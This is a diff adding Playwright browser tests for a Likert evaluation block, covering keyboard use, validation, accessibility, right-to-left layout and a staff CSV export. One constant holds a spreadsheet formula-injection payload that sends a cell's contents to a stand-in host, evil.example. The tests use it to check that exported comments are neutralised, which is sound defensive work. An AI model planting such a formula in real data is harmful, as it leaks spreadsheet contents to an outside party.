@@ -1,0 +1,375 @@
+"""The Likert evaluation block (``emm_likert``) in headless Chromium, as learners and staff use it.
+
+Each test asserts what a person would notice: the counter, the messages, where the focus
+goes, what is disabled after a reload, the report and its CSV, the page direction, and that
+axe-core finds nothing wrong inside the block.
+"""
+
+import csv
+import io
+import re
+from urllib.parse import urljoin
+
+import pytest
+from django.utils import translation
+
+from emm_xblocks.models import Response
+from emm_xblocks.workbench.services import LmsI18nService, user_opt_attrs
+from tests.browser.conftest import DEMO_EN, DEMO_FR, DESKTOP, PHONE, student_id
+
+pytestmark = pytest.mark.browser
+
+BLOCK = ".emm-likert"
+STATEMENTS = ["relevance", "job_needs", "objectives", "pace", "facilitators", "exchange",
+              "child_trafficking", "recommend"]  # the demo evaluation, in page order
+SCALE = ["Strongly disagree", "Disagree", "Neither agree nor disagree", "Agree", "Strongly agree"]
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+# Six learners' answers for the report (pace is reverse-coded; "na" = not applicable).
+SEED = [
+    {"relevance": 5, "job_needs": 4, "objectives": 4, "pace": 2, "facilitators": 5, "exchange": 4,
+     "child_trafficking": 5, "recommend": 5},
+    {"relevance": 4, "job_needs": 4, "objectives": 3, "pace": 1, "facilitators": 5, "exchange": 3,
+     "child_trafficking": 4, "recommend": 4},
+    {"relevance": 5, "job_needs": 5, "objectives": 4, "pace": 4, "facilitators": 4, "exchange": 4,
+     "child_trafficking": 3, "recommend": 5},
+    {"relevance": 3, "job_needs": 2, "objectives": 5, "pace": 3, "facilitators": 4, "exchange": 5,
+     "child_trafficking": 4, "recommend": "na"},
+    {"relevance": 4, "job_needs": 4, "objectives": 4, "pace": 2, "facilitators": 3, "exchange": 4,
+     "child_trafficking": 2, "recommend": 4},
+    {"relevance": 5, "job_needs": 3, "objectives": 4, "pace": 1, "facilitators": 5, "exchange": "na",
+     "child_trafficking": 5, "recommend": 5},
+]
+REVERSE = {"pace"}
+
+
+def server_gettext(lang, text):
+    """What the server's (LMS-like) catalogue says for ``text`` in ``lang``."""
+    with translation.override(lang):
+        return LmsI18nService().gettext(text)
+
+
+def expected_headline(seed):
+    """% of non-N/A answers in the two most favourable points (reverse-coded flipped)."""
+    favourable = total = 0
+    for answers in seed:
+        for sid, value in answers.items():
+            if value == "na":
+                continue
+            score = 6 - value if sid in REVERSE else value
+            total += 1
+            favourable += score >= 4
+    return round(100.0 * favourable / total, 1)
+
+
+def fieldset(page, sid):
+    return page.locator(f'{BLOCK} [data-statement="{sid}"]')
+
+
+def active(page):
+    """``{tag, type, name, value, statement, text}`` of the focused element."""
+    return page.evaluate("""() => {
+        const el = document.activeElement, fs = el && el.closest('[data-statement]');
+        return {tag: el.tagName.toLowerCase(), type: el.type || null, name: el.name || null,
+                value: el.value === undefined ? null : el.value,
+                statement: fs ? fs.getAttribute('data-statement') : null,
+                submit: el.hasAttribute('data-submit'), text: el.textContent.trim()};
+    }""")
+
+
+def assert_no_horizontal_overflow(page, width):
+    overflow = page.evaluate("""(width) => {
+        const root = document.querySelector('.emm-likert');
+        const edge = root.getBoundingClientRect().right;
+        const outside = [...root.querySelectorAll('*')].filter((el) => {
+            const box = el.getBoundingClientRect();
+            return box.width > 0 && box.right > edge + 0.5;
+        }).map((el) => el.tagName + '.' + el.className);
+        return {scroll: root.scrollWidth, client: root.clientWidth, right: edge, outside};
+    }""", width)
+    assert overflow["scroll"] <= overflow["client"], overflow
+    assert overflow["right"] <= width, overflow
+    assert overflow["outside"] == [], overflow
+
+
+def open_block(page, url=None):
+    """Open (or, without ``url``, reload) a page and wait until the block's JavaScript ran."""
+    if url:
+        page.goto(url)
+    else:
+        page.reload()
+    page.wait_for_selector(f"{BLOCK} [data-progress]", state="attached")
+    # the workbench initialises blocks on DOM ready; by "load" EmmLikert has run
+    page.wait_for_function("() => document.readyState === 'complete' && !!window.EMM")
+
+
+def seed(workbench, page, scenario, answers_list, comments=()):
+    """Learners submit through the block's handler over HTTP; returns their ids."""
+    learners = []
+    comments = (list(comments) + [""] * len(answers_list))[:len(answers_list)]
+    for answers, comment in zip(answers_list, comments, strict=True):
+        learner = student_id("seed")
+        r = workbench.submit(page, scenario, learner, answers, comment)
+        assert r.status == 200, r.text()
+        learners.append(learner)
+    return learners
+
+
+def axe_violations(page):
+    from axe_playwright_python.sync_playwright import Axe
+
+    # ``heading-order`` (a best-practice rule, not WCAG) judges the block's <h3> against the
+    # host page's headings: the workbench has an <h1> and nothing between; in the LMS an
+    # XBlock's title sits under the unit's heading, like capa's <h3>. Everything else runs.
+    options = {"resultTypes": ["violations"], "rules": {"heading-order": {"enabled": False}}}
+    results = Axe().run(page, context=BLOCK, options=options)
+    assert results.response["passes"], "axe checked nothing: is the block on the page?"
+    return results
+
+
+# ------------------------------------------------------------------ 1. keyboard, phone
+def test_learner_answers_and_submits_with_the_keyboard_alone_on_a_phone(workbench, new_page):
+    page = new_page(PHONE)
+    learner = student_id()
+    open_block(page, workbench.scenario_url(DEMO_EN, learner))
+    progress = page.locator(f"{BLOCK} [data-progress]")
+    assert progress.text_content() == "Answered 0 of 8"
+    assert_no_horizontal_overflow(page, PHONE["width"])
+
+    # Tab from the top of the page until the first statement's first radio has the focus.
+    for _ in range(10):
+        page.keyboard.press("Tab")
+        if active(page)["statement"] == STATEMENTS[0]:
+            break
+    assert active(page)["statement"] == STATEMENTS[0] and active(page)["value"] == "1"
+
+    chosen = {}
+    for i, sid in enumerate(STATEMENTS):
+        if i:
+            page.keyboard.press("Tab")  # Tab leaves a radio group for the next one
+        now = active(page)
+        assert now["statement"] == sid and now["type"] == "radio", now
+        moves = i % 6  # 0 -> Space on the first point; k arrows -> point k+1; 5 -> "Not applicable"
+        if moves == 0:
+            page.keyboard.press("Space")
+        for _ in range(moves):
+            page.keyboard.press("ArrowDown" if i % 2 else "ArrowRight")
+        chosen[sid] = "na" if moves == 5 else str(moves + 1)
+        checked = fieldset(page, sid).locator("input:checked")
+        assert checked.get_attribute("value") == chosen[sid]
+        assert progress.text_content() == f"Answered {i + 1} of 8"
+
+    page.keyboard.press("Tab")
+    assert active(page)["tag"] == "textarea"
+    page.keyboard.type("Plus d'exercices pratiques, s'il vous plaît.")
+    page.keyboard.press("Tab")
+    now = active(page)
+    assert now["submit"] and now["text"] == "Submit", now
+    page.keyboard.press("Enter")
+
+    status = page.locator(f"{BLOCK} [data-status]")
+    status.filter(has_text="Thank you: your answers were saved.").wait_for()
+    assert page.locator(f"{BLOCK} [data-alert]").is_hidden()
+    assert page.locator(f"{BLOCK} input:enabled, {BLOCK} textarea:enabled").count() == 0
+    assert page.locator(f"{BLOCK} [data-submit]").is_hidden()
+    assert_no_horizontal_overflow(page, PHONE["width"])
+    rows = Response.objects.filter(block_key=workbench.usage_id(DEMO_EN))
+    assert dict(rows.values_list("group", "value")) == chosen
+    assert set(rows.values_list("user_key", flat=True)) == {""}  # anonymous: no identity stored
+
+    open_block(page)  # reload
+    inputs = page.locator(f"{BLOCK} input[type=radio]")
+    assert inputs.count() == 8 * 6
+    assert page.locator(f"{BLOCK} input:enabled, {BLOCK} textarea:enabled").count() == 0
+    assert page.locator(f"{BLOCK} .emm-notice").first.text_content() == "Your answers were recorded anonymously."
+    assert status.text_content().strip() == "Thank you: your answers were saved."
+    assert page.locator(f"{BLOCK} [data-submit]").is_hidden()
+    assert page.locator(f"{BLOCK} [data-progress]").is_hidden()  # no "Answered 0 of 8" on a final survey
+    assert_no_horizontal_overflow(page, PHONE["width"])
+    assert page.js_errors == []
+
+
+# ------------------------------------------------------------------ 2. required statements
+def test_missing_required_statement_is_announced_focused_and_nothing_is_stored(workbench, new_page):
+    page = new_page(DESKTOP, locale="fr-FR")
+    open_block(page, workbench.scenario_url(DEMO_FR, student_id(), lang="fr"))
+    submits = []
+    page.on("request", lambda req: submits.append(req.url) if "/submit/" in req.url else None)
+
+    skipped = {"objectives", "facilitators"}
+    for sid in STATEMENTS:
+        if sid not in skipped:
+            fieldset(page, sid).locator(".emm-option").nth(3).click()
+    page.locator(f"{BLOCK} [data-submit]").click()
+
+    alert = page.locator(f"{BLOCK} [data-alert]")
+    expected = server_gettext("fr", "Please answer every required statement ({n} left).").format(n=2)
+    alert.filter(has_text=expected).wait_for()
+    assert alert.get_attribute("role") == "alert" and alert.is_visible()
+    now = active(page)
+    assert now["statement"] == "objectives" and now["type"] == "radio", now  # the first one missing
+    for sid in STATEMENTS:
+        invalid = "emm-invalid" in (fieldset(page, sid).get_attribute("class") or "")
+        assert invalid == (sid in skipped), sid
+    error = fieldset(page, "objectives").locator("[data-error-for]")
+    assert error.is_visible()
+    assert error.text_content() == server_gettext("fr", "Please choose an answer.")
+    assert fieldset(page, "objectives").get_attribute("aria-describedby") == error.get_attribute("id")
+    assert submits == []
+    assert Response.objects.filter(block_key=workbench.usage_id(DEMO_FR)).count() == 0
+
+    # Answering them clears the errors and the evaluation goes through.
+    for sid in skipped:
+        fieldset(page, sid).locator(".emm-option").nth(4).click()
+    page.locator(f"{BLOCK} [data-submit]").click()
+    page.locator(f"{BLOCK} [data-status]").filter(
+        has_text=server_gettext("fr", "Thank you: your answers were saved.")).wait_for()
+    assert page.locator(f"{BLOCK} .emm-invalid").count() == 0
+    assert alert.is_hidden()
+    assert Response.objects.filter(block_key=workbench.usage_id(DEMO_FR)).count() == len(STATEMENTS)
+    assert page.js_errors == []
+
+
+# ------------------------------------------------------------------ 3. staff report + CSV
+def test_staff_read_the_report_and_download_a_safe_anonymous_csv(workbench, new_page):
+    page = new_page(DESKTOP)
+    page.goto(workbench.scenario_url(DEMO_EN, "staff_1"))  # sets the csrftoken cookie
+    learners = seed(workbench, page, DEMO_EN, SEED, comments=[FORMULA, "Très utile, merci."])
+
+    open_block(page, workbench.scenario_url(DEMO_EN, "staff_1"))
+    button = page.get_by_role("button", name="Show results")
+    button.click()
+    panel = page.locator(f"{BLOCK} [data-results]")
+    panel.locator(".emm-headline").wait_for()
+    assert page.evaluate("document.activeElement.hasAttribute('data-results')")  # focus moves to it
+    assert button.is_hidden()
+    assert panel.locator(".emm-respondents").text_content() == "6 respondents"
+    headline = panel.locator(".emm-headline").text_content()
+    assert headline == f"{expected_headline(SEED)}% agree or strongly agree, over all statements."
+    assert re.fullmatch(r"\d+(\.\d)?% agree or strongly agree, over all statements\.", headline)
+
+    rows = panel.locator("table.emm-table tbody tr")
+    assert rows.count() == len(STATEMENTS)
+    texts = page.evaluate("""() => [...document.querySelectorAll('.emm-likert [data-results] tbody tr')]
+        .map((tr) => [...tr.children].map((c) => c.textContent))""")
+    for sid, cells in zip(STATEMENTS, texts, strict=True):
+        answered = sum(1 for a in SEED if a[sid] != "na")
+        assert cells[1] == str(answered), (sid, cells)
+        assert len(cells) == 2 + len(SCALE) + 4  # statement, n, 5 points, N/A, top, top two, mean
+    assert texts[3][0].endswith("(reverse-coded)")
+    header = panel.locator("table.emm-table thead th").all_text_contents()
+    assert header[:2] == ["Statement", "n"] and header[2:7] == SCALE
+
+    # The learner's formula comment is shown as text, never as a link or markup.
+    assert FORMULA in panel.locator(".emm-comments").all_text_contents()[0]
+    links = panel.locator("a")
+    assert links.count() == 1
+    link = links.first
+    assert link.text_content() == "Download the responses (CSV)"
+    href = link.get_attribute("href")
+    assert "/export_csv/" in href
+
+    download = page.request.get(urljoin(page.url, href))
+    assert download.status == 200 and download.headers["content-type"].startswith("text/csv")
+    body = download.body().decode("utf-8")
+    assert body.startswith("\ufeff")
+    table = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
+    assert table[0] == ["Date"] + STATEMENTS + ["Comment"]  # anonymous: no learner column
+    assert len(table) == 1 + len(SEED)
+    cells = [cell for row in table for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_START)]
+    for learner in learners:
+        ids = {learner, user_opt_attrs(learner)["edx-platform.anonymous_user_id"]}
+        assert not [c for c in cells if any(i in c for i in ids)]
+    assert "'" + FORMULA in cells  # the comment is there, neutralised
+    assert page.js_errors == []
+
+
+def test_named_evaluation_csv_neutralises_a_formula_comment(workbench, new_page):
+    scenario = workbench.add_scenario(
+        '<emm_likert display_name="Named evaluation" comment="true">'
+        '<item id="useful">The session was useful.</item><item id="clear">The session was clear.</item>'
+        "</emm_likert>")
+    page = new_page(DESKTOP)
+    page.goto(workbench.scenario_url(scenario, "staff_1"))
+    answers = [{"useful": v, "clear": 6 - v} for v in (1, 2, 3, 4, 5)]
+    learners = seed(workbench, page, scenario, answers, comments=[FORMULA, "@SUM(1+1)", "+33 1 23", "-2", "ok"])
+
+    open_block(page, workbench.scenario_url(scenario, "staff_1"))
+    page.get_by_role("button", name="Show results").click()
+    link = page.get_by_role("link", name="Download the responses (CSV)")
+    body = page.request.get(urljoin(page.url, link.get_attribute("href"))).body().decode("utf-8")
+    table = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
+    assert table[0] == ["Learner", "Date", "useful", "clear", "Comment"]
+    comments = {row[-1] for row in table[1:]}
+    assert comments == {"'" + FORMULA, "'@SUM(1+1)", "'+33 1 23", "'-2", "ok"}
+    assert not [c for row in table for c in row if c.startswith(FORMULA_START)]
+    # named mode: the learner column holds the anonymous user id, not the username
+    keys = {user_opt_attrs(learner)["edx-platform.anonymous_user_id"] for learner in learners}
+    assert {row[0] for row in table[1:]} == keys
+    assert page.js_errors == []
+
+
+# ------------------------------------------------------------------ 4. accessibility
+@pytest.mark.parametrize("lang", ["en", "ar"])
+def test_axe_finds_no_violation_in_the_block(workbench, new_page, lang):
+    page = new_page(DESKTOP)
+    open_block(page, workbench.scenario_url(DEMO_EN, student_id(), lang=lang))
+    results = axe_violations(page)
+    assert results.violations_count == 0, results.generate_report()
+
+    # ... also while it shows errors for unanswered required statements
+    fieldset(page, STATEMENTS[0]).locator(".emm-option").nth(2).click()
+    page.locator(f"{BLOCK} [data-submit]").click()
+    page.locator(f"{BLOCK} [data-alert]:not(:empty)").wait_for()
+    results = axe_violations(page)
+    assert results.violations_count == 0, results.generate_report()
+
+    # ... and on the staff results panel (chart, table, comments, CSV link)
+    seed(workbench, page, DEMO_EN, SEED[:5], comments=["Merci"])
+    open_block(page, workbench.scenario_url(DEMO_EN, "staff_1", lang=lang))
+    page.locator(f"{BLOCK} [data-show-results]").click()
+    page.locator(f"{BLOCK} [data-results] table").wait_for()
+    results = axe_violations(page)
+    assert results.violations_count == 0, results.generate_report()
+    assert page.js_errors == []
+
+
+# ------------------------------------------------------------------ 5. languages
+def test_arabic_page_is_right_to_left(workbench, new_page):
+    page = new_page(PHONE, locale="ar")
+    open_block(page, workbench.scenario_url(DEMO_EN, student_id(), lang="ar"))
+    root = page.locator(BLOCK)
+    assert root.get_attribute("dir") == "rtl"
+    assert root.get_attribute("lang") == "ar"
+    assert root.evaluate("(el) => getComputedStyle(el).direction") == "rtl"
+    # what a reader sees: on a phone each radio sits to the right of its label, and the
+    # notice's accent bar is on the right side
+    option = fieldset(page, STATEMENTS[0]).locator(".emm-option").first
+    radio = option.locator("input").bounding_box()
+    label = option.locator("span").bounding_box()
+    assert radio["x"] > label["x"]
+    notice = page.locator(f"{BLOCK} .emm-notice").first
+    assert notice.evaluate("(el) => getComputedStyle(el).borderRightWidth") == "4px"
+    assert notice.evaluate("(el) => getComputedStyle(el).borderLeftWidth") == "0px"
+    assert_no_horizontal_overflow(page, PHONE["width"])
+    assert page.js_errors == []
+
+
+def test_french_page_shows_french_scale_labels(workbench, new_page):
+    page = new_page(DESKTOP, locale="fr-FR")
+    open_block(page, workbench.scenario_url(DEMO_FR, student_id(), lang="fr"))
+    root = page.locator(BLOCK)
+    assert root.get_attribute("lang") == "fr"
+    assert root.get_attribute("dir") == "ltr"
+    labels = fieldset(page, STATEMENTS[0]).locator(".emm-option span").all_text_contents()
+    expected = [server_gettext("fr", text) for text in SCALE] + [server_gettext("fr", "Not applicable")]
+    assert labels == expected
+    if expected[-2] != "Strongly agree":  # the French catalogue has the scale
+        assert re.fullmatch(r"Tout à fait d['’]accord", labels[4]), labels
+        assert labels != SCALE + ["Not applicable"]
+    # the counter comes from the JavaScript catalogue, built from the same .po file
+    assert page.locator(f"{BLOCK} [data-progress]").text_content() == server_gettext(
+        "fr", "Answered {done} of {total}").format(done=0, total=8)
+    assert page.js_errors == []
